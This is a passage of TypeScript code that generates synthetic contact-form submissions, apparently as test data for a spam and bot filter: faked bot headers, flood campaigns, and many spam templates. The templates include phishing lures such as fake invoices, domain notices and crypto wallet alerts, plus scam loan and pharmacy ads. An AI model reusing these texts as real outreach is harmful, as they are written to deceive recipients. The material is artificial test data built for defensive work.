        const [first, last] = gibberishPairs[post % gibberishPairs.length] ?? ['x', 'y'];
        return {
          first_name: first,
          last_name: last,
          email: `${dice.letters(2)}.${dice.letters(3)}.${dice.letters(2)}.${dice.letters(2)}${dice.digits(2)}@gmail.example`,
          phone_number: dice.digits(10),
          from_message: mixedCase(dice, dice.between(10, 24)),
        };
      },
    },
    {
      // Bots that flood a person's mailbox with the confirmations of every form they know.
      posts: 16,
      from: 60_300,
      until: 60_900,
      network: () => foreignNetwork(dice),
      page: (post) =>
        post % 2 === 0 ? { seconds: dice.between(1, 4), script: false, work: 'missing', trapped: false } : null,
      headers: () => pretended(dice),
      fields: () => ({
        first_name: dice.one(['a', 'John', 'x', dice.letters(6)]),
        last_name: dice.one(['b', 'Doe', dice.letters(6)]),
        email: dice.one(['r.hallorann@hallorann.example', 'r.hallorann@hallorann.example', 'office@hallorann.example']),
        from_message: dice.one(['subscribe', 'yes', 'info', dice.letters(9), 'ok']),
      }),
    },
  ];
}

function floods(dice: Dice): MadeUp[] {
  const campaigns = floodCampaigns(dice);
  return campaigns.flatMap((campaign) =>
    Array.from({ length: campaign.posts }, (_, post): MadeUp => {
      const at = dice.between(campaign.from, campaign.until);
      return {
        kind: 'scripted flood',
        at,
        network: campaign.network(post),
        page: campaign.page(post, at),
        headers: campaign.headers(post),
        fields: campaign.fields(post),
      };
    }),
  );
}

// Submissions that advertise links.

/**
 * An advertisement. `<link>` is a bare or full address, `<short>` a link shortener's, `<chat>` a messenger's, `<links>`
 * several links in one markup language.
 */
interface Pitch {
  hosts: string[];
  texts: string[];
  /** The share of advertisements that people send by hand with real browsers. */
  byHand: number;
  /** The languages of people who send advertisements by hand, unless they use American or Indian English. */
  languages?: string;
}
const pitches: Record<string, Pitch> = {
  seo: {
    hosts: ['rankboosters.example', 'seo-page1.test', 'topserp.example', 'growthlab-digital.example'],
    byHand: 0.6,
    texts: [
      'Hi, I {was on|came across|just visited} your website and {noticed|found} that it is not ranking on the first page of Google for {most|many} of its keywords. We can {fix that|get you to page 1} {in 90 days|within 3 months}. May I send you a {quote|proposal|price list}? <link>',
      'Hello Business Owner,\n\nI am {Neha|Rohit|Anjali|Vikram}, {Digital Marketing Manager|SEO Consultant|Business Development Executive}. We {offer|provide} SEO, SMO, PPC and {web design|app development} at {affordable|low} price. {Reply with your phone number|Share your WhatsApp} so we can discuss.\nPortfolio: <link>',
      'Your competitors outrank you for "<city> lawyer". {Free audit|Free 27-point report} here: <link> {No obligation.|Valid until <weekday>.}',
      'We {place|publish} {high DA|DR 60+|dofollow} backlinks on {law|legal} blogs. {100|250|500} links for $<m>9. Order: <links>',
    ],
  },
  errors: {
    hosts: ['sitecheck-pro.example', 'webfixers.test', 'speedaudit.example'],
    byHand: 0.5,
    texts: [
      'Your website has <m> errors that {hurt|harm} your visibility. I made a screenshot of them: <link>. {Shall I send the full list?|Interested to have them fixed?}',
      'hello, your contact page loads in <n>.{2|7|9} seconds on mobile. that is {slow|very slow}. i can repair for $<m>. whatsapp <chat>',
      'URGENT: your site is NOT compliant with ADA / WCAG 2.2. Firms like yours {get sued|receive demand letters} every week. Install our widget today <link>',
      'Our crawler has found a {broken checkout|security hole|missing SSL chain} on your domain. Details (expires in 24h): <short>',
    ],
  },
  guestpost: {
    hosts: ['contentlane.example', 'writers-desk.example', 'lawblognetwork.test'],
    byHand: 0.75,
    texts: [
      'Hi team, I am a {freelance writer|content specialist} and would love to {contribute|submit} a guest article to your blog, free of charge, with one {do-follow|natural} link to my client. Samples: <link> and <link>',
      'Do you accept sponsored posts? We pay $<m> per {post|article} via PayPal. Our sites: <link> , <link> , <link>. Kindly share your price for {casino|CBD|general|crypto} links.',
      'Dear webmaster, there is a dead link on your resources page. We have a better {guide|infographic}: <link>. Would you {swap|replace} it?',
    ],
  },
  casino: {
    hosts: ['luckyspin777.test', 'royal-slots.example', 'betnova.example', 'megajackpot.test'],
    byHand: 0.1,
    texts: [
      '{Best|Top|New} online casino {bonus|no deposit bonus} {2025|this week} – 200 free spins <links>',
      'I won {<money>|a lot} on slots last night, {try it yourself|no joke} >>> <link> <<< {promo code <digits>|register fast}',
      'Sweet Bonanza, Gates, Crash, Aviator! {Instant payout|Withdraw in 5 minutes}. <link> <link> <link>',
      '<links>\n{Poker|Roulette|Blackjack} {online|live} {real money|for money}',
    ],
  },
  pharmacy: {
    hosts: ['rx-meds24.test', 'canadian-pills.example', 'cheapcialis.test', 'healthymen.example'],
    byHand: 0.02,
    texts: [
      '{buy|order|cheap} {viagra|cialis|levitra|modafinil|tramadol|ozempic} {online|without prescription|overnight} <links>',
      '{Generic|Brand} {Viagra 100mg|Cialis 20mg|Semaglutide} ${0.89|1.12|2.40} per {pill|dose}, {no Rx|fast shipping}: <link>',
      'My {doctor|husband} {did not believe|was surprised by} how I lost <m> pounds in <n> weeks with this {tea|gummy|injection} <short>',
      'what is the {dose|dosage} of {amoxicillin|prednisone|clomid}? {answer|info} <links> {side effects|interactions}',
    ],
  },
  crypto: {
    hosts: ['btc-multiplier.test', 'coinharvest.example', 'quantumtrade-ai.example'],
    byHand: 0.25,
    texts: [
      'Earn {3.5%|5%|12%} daily with {AI trading|our arbitrage bot|liquidity mining}. {Start with $250|Minimum deposit 0.01 BTC}. <link> Telegram: <chat>',
      'Your wallet has received 1.{3|7|9}<digits> BTC. {Confirm|Withdraw} within 24 hours >> <short>',
      'I LOST ALL MY {BITCOIN|SAVINGS} TO A SCAM UNTIL I MET {SPARTAN|WIZARD|CIPHER} RECOVERY. THEY GOT BACK <money>!! CONTACT <chat> {OR <mail>|}',
      'USDT flash {sender|software}, {lasts 90 days|transferable}, buy now <chat>. Proof channel <link>',
    ],
  },
  loans: {
    hosts: ['fastfunding-now.example', 'capitalbridge.example', 'loan-approved.test'],
    byHand: 0.5,
    texts: [
      'Your business is pre-approved for {up to|a line of} <money>. No credit check, funds in {24|48} hours: <link>',
      'Do you need an urgent loan at 2% interest? {Personal|Business|Debt consolidation} loan from $5,000 to $50 million. Contact Mr. <surname>: <mail> {or WhatsApp <chat>|}',
      'We buy {pre-settlement cases|receivables|judgments} and fund law firms. 5 minute application <link> {Reply STOP to opt out|unsubscribe: <link>}',
    ],
  },
  dating: {
    hosts: ['hotmeet.test', 'lonely-hearts.example', 'date-tonight.test'],
    byHand: 0.02,
    texts: [
      'Hi {dear|handsome|honey} :) I am {Katya|Olga|Jessica|Mia}, {23|26|29}, {lonely|bored} tonight. My {photos|pics|cam} are here <short>',
      '{Sexy|Hot|Beautiful} {girls|singles|women} in <city> want to {meet|chat} {you|tonight}: <links>',
      'I saw you in <city> on <weekday> and could not stop thinking. Write me <chat> 💋',
    ],
  },
  invoice: {
    hosts: ['docs-billing.test', 'securefile-view.example', 'domain-registry-us.test'],
    byHand: 0.15,
    texts: [
      'Please find {attached|below} invoice {#|no. }<digits> for <money>, {overdue|due today}. View document: <link>',
      'DOMAIN NOTICE: your {domain listing|search engine submission} expires on <date>. Failure to {complete|renew} may result in cancellation. SECURE PAYMENT: <link>',
      'This is <name> and I am a {licensed|qualified} photographer. You {use|have stolen} my images on your site without my permission! Look at the proof here and {delete them|take them down}, or I will sue: <link>',
      'Payment advice from {your client|accounts dept}. Password for the file is {1234|2025}. <short>',
    ],
  },
  leads: {
    hosts: ['lawyerleads.example', 'casepipeline.example', 'review-stars.test', 'answering247.example'],
    byHand: 0.8,
    texts: [
      'We {generate|have} {exclusive|signed} {MVA|personal injury|mass tort|Camp Lejeune} {leads|retainers} in <state>, ${180|250|400} each, replacement guaranteed. Can you {take|handle} <m> a month? Book a call: <link>',
      'Quick question for the {managing partner|owner}: if we sent you <m> new clients next month, could you handle them? {My calendar|Pick a time}: <link>',
      'Get <m> real 5 star Google reviews for your firm. Non drop, slow delivery, pay after. <chat> <link>',
      'Our {bilingual|US-trained} virtual receptionists answer your calls 24/7 from $<m>9. {Try one week free|Demo}: <link>. Best, <name> {|<surname>}',
      'Buy {verified lawyers|attorney email list|US decision makers} database, <m>,000 contacts with e-mail and phone, $<m>. sample: <short>',
    ],
  },
  formblast: {
    hosts: ['formreach.example', 'contactblaster.test', 'ai-inbox.example'],
    byHand: 0.05,
    texts: [
      "You're reading this, so it works! We {send|deliver} {messages|ads} to {millions of|any} website contact forms {just like yours|}. From $<m>: <link> {To opt out of these go to <link>|}",
      'I made a {60 second|short} explainer video for your business, have a look and tell me what you think: <link>{\n\nIf you do not want to hear from me, fill in <link> with your domain.|}',
      'ChatGPT is {old news|outdated}. {Clone any website|Make 1000 videos|Write books} with one click, one-time ${17|27|47}. <link> (my review) {<link>|}',
      'Get <m>k {Instagram|TikTok|YouTube} {followers|subscribers} {a month|}, real and {active|organic}. <link>',
    ],
  },
  goods: {
    hosts: ['replica-luxe.test', 'bags-outlet.test', 'shenzhen-led.example', 'essay-aces.example'],
    byHand: 0.15,
    texts: [
      '{Replica|AAA quality|1:1} {Rolex|handbags|sneakers} {-70%|sale|cheap} <links>',
      'Dear purchasing manager, we are {manufacturer|factory} of {LED display|PCB|office chair|packing box} in Shenzhen since <year>. Best price, MOQ 50 pcs. Catalog: <link> WeChat/WhatsApp: <chat>',
      'I was stuck with my {essay|dissertation|coursework} and <links> wrote it in <n> hours. {Recommended|10/10}',
      '{Buy|Get} {a driver license|passport|IELTS certificate} {registered|real|database} online, {discreet|safe}. <chat>',
    ],
  },
  russian: {
    hosts: ['kazino-x.test', 'prodvizhenie-saitov.test', 'diplom-shop.test', 'remont-msk.example'],
    byHand: 0.15,
    languages: 'ru-RU,ru;q=0.9,en-US;q=0.8,en;q=0.7',
    texts: [
      '{Продвижение|Раскрутка} сайтов, прогон {Хрумером|GSA}, рост ИКС и DR. {Дешево|Гарантия}. Пишите в телеграм <chat>',
      'Лучшие {онлайн казино|слоты|ставки на спорт} 2025, бонус {за регистрацию|без депозита} <links>',
      'Купить диплом {о высшем образовании|техникума} с занесением в реестр: <link>',
      '{Интересно|Спасибо за статью}, подробнее тут <links> {ремонт квартир|натяжные потолки|аренда яхт|займы на карту}',
      'Рассылка по формам обратной связи! {1 млн сайтов|США и Европа} за {3000|5000} руб. <chat> <link>',
      '{Заработок|Инвестиции} на {крипте|бирже} от {3000|5000} р в день, без вложений, жми <short>',
    ],
  },
  chinese: {
    hosts: ['yl88.test', 'fapiao-kai.test', 'daixie-help.example', 'hk-trade.example'],
    byHand: 0.2,
    languages: 'zh-CN,zh;q=0.9,en;q=0.8',
    texts: [
      '{亚洲|全球}最大{博彩|真人娱乐}平台，注册送{88|188|888}，提款秒到账 <link>',
      '专业代开{发票|增值税票}，各行业均可，先验后付。微信 <chat>',
      '{留学生|北美}论文代写 网课代修 不过全额退款 <link> V: <chat>',
      '您好，我们是{深圳|义乌|广州}工厂，专做{手机壳|户外灯|律师袋}，可定制LOGO，欢迎询价 <link>',
      '{海外|美国}虚拟卡 {谷歌|脸书}广告账户 批发出售 电报 <chat> <link>',
    ],
  },
  elsewhere: {
    hosts: ['pret-rapide.test', 'kredit-sofort.test', 'prestamo-ya.test', 'crm-legal.example'],
    byHand: 0.3,
    texts: [
      'Bonjour, nous offrons des prêts entre particuliers de 2 000 à 500 000 € à {2|3}% sans {frais|garantie}. Contact : <mail> {WhatsApp <chat>|}',
      'Sofortkredit ohne Schufa, Auszahlung in {24|48} Stunden! Jetzt beantragen <link>',
      '¿Necesita dinero? Préstamos {rápidos|urgentes} sin aval hasta <money>, escríbanos {al WhatsApp <chat>|en <link>}',
      '{バイアグラ|ブランドコピー}通販 {激安|最安値} <link>',
      'Tanie pozycjonowanie i linki SEO, pakiet {100|300} linków {49|99} zł <link>',
      'เว็บสล็อตแตกง่าย {ฝากถอนออโต้|แจกเครดิตฟรี} <link> <link>',
      'Situs slot {gacor|maxwin} hari ini {deposit pulsa|bonus 100%} <links>',
    ],
  },
};

// Many advertise from domain names without a meaning, or from pages on other people's hosts.
const plainHosts =
  'sites.pagehost.example,click.trk-go.example,qzrd.test,medium-posts.example,storage.cloudbucket.example,lp.getstarted.example,northwindteam.example,harborandco.example,calendly-like.example,forms.gdocs-like.example'.split(
    ',',
  );
const spamNames =
  'Neha Sharma,Rohit Verma,Anjali Gupta,Vikram Singh,Aarti Mehta,Ankit Jain,Shahid Khan,Md Rahman,Rakib Hasan,Joy Reyes,Mark Villanueva,Ayesha Malik,Bilal Ahmed,Olena P,Igor Volkov,Sergey M,Lily Chen,Tony Zhang,Chidi Eze,Grace Mwangi,Emma Watts,Steve Collier,Alex Gray,Sophie Lane'.split(
    ',',
  );

function spamLink(dice: Dice, advertised: string): string {
  const host = dice.chance(0.35) ? dice.one(plainHosts) : advertised;
  const path = dice.one([
    '',
    '/',
    '/offer',
    `/?utm_source=form&id=${dice.digits(5)}`,
    `/${dice.code(6)}`,
    '/en/start.html',
    `/go.php?s=${dice.code(8)}`,
    `/blog/${dice.one(slugWords)}-${dice.one(slugWords)}`,
  ]);
  const named = dice.one([host, host, `www.${host}`, `${dice.letters(4)}.${host}`]);
  return dice.one([
    `https://${named}${path}`,
    `http://${named}${path}`,
    `${named}${path}`,
    `https://${named}${path}`,
    host.replaceAll('.', dice.one(['.', ' . ', ' dot ', '[.]', '.'])),
  ]);
}

function chat(dice: Dice): string {
  const nick = `${dice.one(['boss', 'admin', 'seo', 'pro', 'vip', 'help'])}_${dice.letters(5)}`;
  return dice.one([
    `https://t-me.example/${nick}`,
    `@${nick}`,
    `https://wa-me.example/${dice.digits(11)}`,
    `+${dice.one(['91', '44', '1', '7', '86', '234'])} ${dice.digits(9)}`,
    `t-me.example/${nick}`,
  ]);
}

/** Writes links in one markup language, as bots do because they do not know what a form renders. */
function manyLinks(dice: Dice, host: string): string {
  const count = dice.weighted<number>([
    [5, 1],
    [4, 2],
    [3, 3],
    [2, 6],
    [1, 12],
  ]);
  const markup = dice.one(['html', 'bbcode', 'plain', 'both', 'markdown']);
  return Array.from({ length: count }, () => {
    const word = dice.one([
      'click here',
      'visit',
      'cheap',
      'best price',
      'more info',
      dice.letters(7),
      host.replace(/\..*/, ''),
    ]);
    const url = `http${dice.chance(0.7) ? 's' : ''}://${host}/${dice.code(7)}`;
    const html = `<a href="${url}">${word}</a>`;
    const code = `[url=${url}]${word}[/url]`;
    if (markup === 'html') return html;
    if (markup === 'bbcode') return code;
    if (markup === 'both') return `${html} ${code} ${url}`;
    return markup === 'markdown' ? `[${word}](${url})` : url;
  }).join(dice.one([' ', '\n', ', ']));
}

function pitchText(dice: Dice, host: string, template: string): string {
  // Insert the links into the template last, because some markup languages use brackets as the templates do.
  return write(dice, template)
    .replaceAll('<links>', () => manyLinks(dice, host))
    .replaceAll('<link>', () => spamLink(dice, host))
    .replaceAll(
      '<short>',
      () =>
        `${dice.one(['https://bit-ly.example/', 'https://cutt-ly.example/', 'tinyurl-go.example/', 'https://is-gd.example/'])}${dice.code(6)}`,
    )
    .replaceAll('<chat>', () => chat(dice));
}

interface SpamSender {
  network: () => string;
  headers: () => Headers;
  page: () => PageUse | null;
  byHand: boolean;
}

/** Invents the sender of an advertisement: a paid person with a browser, or a program sold for spam. */
function spamSender(dice: Dice, byHand: boolean, own?: string): SpamSender {
  if (byHand) {
    const home = dice.weighted<() => string>([
      [6, () => foreignNetwork(dice)],
      [2, () => dice.one(vpnExits)],
      [2, () => homeNetwork(dice)],
    ])();
    const browser = dice.weighted<() => Browser>([
      [7, () => chrome(dice, 'windows')],
      [1, () => firefox(dice, 'Windows NT 10.0; Win64; x64')],
      [1, () => chrome(dice, 'android')],
      [1, () => chrome(dice, 'mac')],
    ])();
    const languages =
      own ??
      dice.one([
        'en-US,en;q=0.9',
        'en-IN,en-GB;q=0.9,en-US;q=0.8,en;q=0.7',
        'en-GB,en;q=0.9',
        'en-US,en;q=0.9,ru;q=0.8',
        'en-PH,en;q=0.9',
      ]);
    return {
      byHand,
      network: () => home,
      headers: () => browserHeaders(browser, manners(dice, languages, true)),
      page: () => ({
        seconds: dice.weighted<() => number>([
          [5, () => dice.between(12, 45)],
          [4, () => dice.between(46, 180)],
          [1, () => dice.between(181, 1500)],
        ])(),
        script: true,
        work: 'done',
        trapped: false,
      }),
    };
  }
  const server = rentedServer(dice);
  const proxied = (): string => (dice.chance(0.4) ? homeNetwork(dice) : foreignNetwork(dice));
  const network = dice.chance(0.5) ? (): string => server : proxied;
  return dice.weighted<SpamSender>([
    [4, { byHand, network, headers: () => pretended(dice), page: () => null }],
    [
      5,
      {
        byHand,
        network,
        headers: () => pretended(dice),
        page: () => ({ seconds: dice.between(0, 20), script: false, work: 'missing', trapped: dice.chance(0.6) }),
      },
    ],
    [
      1,
      {
        byHand,
        network,
        headers: () => ({
          'user-agent': dice.one([
            'python-requests/2.28.1',
            'Go-http-client/2.0',
            'okhttp/4.9.3',
            'axios/1.6.2',
            'Java/1.8.0_292',
            'Scrapy/2.11 (+https://scrapy.example)',
          ]),
          accept: '*/*',
        }),
        page: () => null,
      },
    ],
    // Browsers that are controlled by a program and do everything that a page asks for.
    [
      4,
      {
        byHand,
        network: proxied,
        headers: () => browserHeaders(chrome(dice, 'windows'), manners(dice, 'en-US,en;q=0.9', true)),
        page: () => ({ seconds: dice.between(3, 40), script: true, work: 'done', trapped: dice.chance(0.15) }),
      },
    ],
    [
      1,
      {
        byHand,
        network,
        headers: () => browserHeaders(chrome(dice, 'windows', 'Google Chrome', 109), { languages: 'en-US' }),
        page: () => ({ seconds: dice.between(1, 10), script: true, work: 'made up', trapped: dice.chance(0.3) }),
      },
    ],
  ]);
}

function spamFields(dice: Dice, sender: SpamSender, message: string, host: string): Fields {
  const [first = '', last = ''] = dice.chance(sender.byHand ? 0.6 : 0.25)
    ? dice.one(spamNames).split(' ')
    : [dice.one(firstNames), dice.one(lastNames)];
  const business = host.replace(/\..*/, '');
  const botName = `${first}${dice.one(['nof', 'Sab', 'tug', 'Pruro', 'hok', 'Diarp', 'Wep', 'bam'])}`;
  const naming = sender.byHand
    ? dice.weighted<'person' | 'business'>([
        [8, 'person'],
        [2, 'business'],
      ])
    : dice.weighted<'person' | 'bot' | 'link' | 'business'>([
        [5, 'person'],
        [5, 'bot'],
        [1, 'link'],
        [2, 'business'],
      ]);
  const names = {
    person: [first, last],
    business: [dice.one([first, 'Marketing', 'Sales']), business],
    bot: [botName, dice.one([botName, `${last}YV`, botName])],
    link: [write(dice, '{Claim your bonus|New message|You won <money>}'), `https://${host}/${dice.code(5)}`],
  }[naming];
  return {
    first_name: names[0] ?? '',
    last_name: names[1] ?? '',
    email: dice.weighted([
      [5, `${latinLetters(first)}.${latinLetters(last)}${dice.digits(2)}@${dice.one(mailHosts)}`],
      [2, `${dice.one(['info', 'sales', 'hello', latinLetters(first)])}@${host}`],
      [
        2,
        `${dice.letters(dice.between(5, 11))}@${dice.one(['mailbox.test', 'mail-ru.example', 'inbox-lv.example', 'gmail.example'])}`,
      ],
    ]),
    ...(dice.chance(0.75)
      ? {
          phone_number:
            sender.byHand && dice.chance(0.5)
              ? phone(dice)
              : dice.one([`8${dice.digits(10)}`, dice.digits(11), phone(dice), '']),
        }
      : {}),
    from_message: message,
  };
}

function linkSpam(dice: Dice): MadeUp[] {
  const sent: MadeUp[] = [];
  const topics = new Deck(dice, Object.keys(pitches));
  const texts = new Map(Object.entries(pitches).map(([topic, pitch]) => [topic, new Deck(dice, pitch.texts)]));
  while (sent.length < perKind) {
    const topic = topics.deal();
    const pitch = pitches[topic];
    const template = texts.get(topic)?.deal();
    if (pitch === undefined || template === undefined) continue;
    const host = dice.one(pitch.hosts);
    const sender = spamSender(dice, dice.chance(pitch.byHand), pitch.languages);
    // Most senders come once. Some return on the same day with the same or a reworded text.
    const times = dice.weighted<number>([
      [7, 1],
      [2, 2],
      [1, sender.byHand ? 2 : dice.between(3, 8)],
    ]);
    const copied = dice.chance(0.3) ? pitchText(dice, host, template) : null;
    for (let time = 0; time < times && sent.length < perKind; time += 1) {
      const message = copied ?? pitchText(dice, host, template);
      sent.push({
        kind: 'link spam',
        at: dice.between(0, day - 1),
        network: sender.network(),
        page: sender.page(),
        headers: sender.headers(),
        fields: spamFields(dice, sender, message, host),
      });
    }
  }
  return sent;
}

/** Makes up 1,000 submissions of one day, 250 of each kind. @returns them in the order in which they are sent */
export function secondHalf(): MadeUp[] {
  const dice = new Dice(20_251_127);
  const writer = new People(dice);
  const all = [
    ...people(dice, writer, 'person with script'),
    ...people(dice, writer, 'person without script'),
    ...floods(dice),
    ...linkSpam(dice),
  ];
  const kinds: Kind[] = ['person with script', 'person without script', 'scripted flood', 'link spam'];
  for (const kind of kinds) {
    const count = all.filter((one) => one.kind === kind).length;
    if (count !== perKind)
      throw new Error(`${count} submissions of the kind ${kind} were made up instead of ${perKind}`);
  }
  return all.sort((one, other) => one.at - other.at);
}
